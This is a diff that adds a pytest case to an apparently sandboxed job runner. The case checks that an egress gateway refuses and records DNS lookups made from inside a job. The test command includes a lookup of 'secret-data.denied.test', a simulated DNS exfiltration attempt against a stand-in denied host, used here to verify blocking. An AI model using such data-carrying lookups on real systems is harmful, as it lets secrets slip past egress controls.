@@ -257,6 +257,31 @@ def test_a_listed_host_on_a_private_address_is_refused_unless_allow_private_cove
     assert leftovers(docker_client, proj, ok) == leftovers(docker_client, proj, no) == []
 
 
+def test_the_engine_lookups_reach_only_the_gateway_which_refuses_and_records_them(
+    proj: Path,
+    upstreams: Upstreams,  # noqa: F811
+    docker_client: docker.DockerClient,
+) -> None:
+    # The allowed counterpart first: the same job reaches allowed.test through the proxy (the
+    # gateway resolves for it); then the engine's own lookup of a name carrying data goes only to
+    # the gateway's DNS door, is answered REFUSED and shows in the record.
+    cmd = (
+        'echo "allowed: $(curl -sS --max-time 10 --cacert ca.crt https://allowed.test/ 2>&1)"; '
+        'echo "lookup: $(getent hosts secret-data.denied.test || echo failed)"'
+    )
+    write_policy(proj, "dns", egress=egress_for(upstreams, allow_private=[upstreams.subnet]))
+    tid = submit_task(proj, "dns", cmd)
+    res = run_once(proj, {})
+    assert res.returncode == 0, res.stderr
+    log = (proj / record(proj, tid)["log_path"]).read_text()
+    assert "allowed: hello from allowed.test" in log and "lookup: failed" in log, log
+    reqs = record(proj, tid)["egress"]["requests"]
+    dns = [r for r in reqs if r["door"] == "dns"]
+    assert dns and all(not r["allowed"] for r in dns), reqs
+    assert any("secret-data.denied.test" in (r["host"] or "") for r in dns), dns
+    assert leftovers(docker_client, proj, tid) == []
+
+
 def test_a_budget_ends_the_run_with_429_and_the_record_says_which(
     proj: Path,
     upstreams: Upstreams,  # noqa: F811
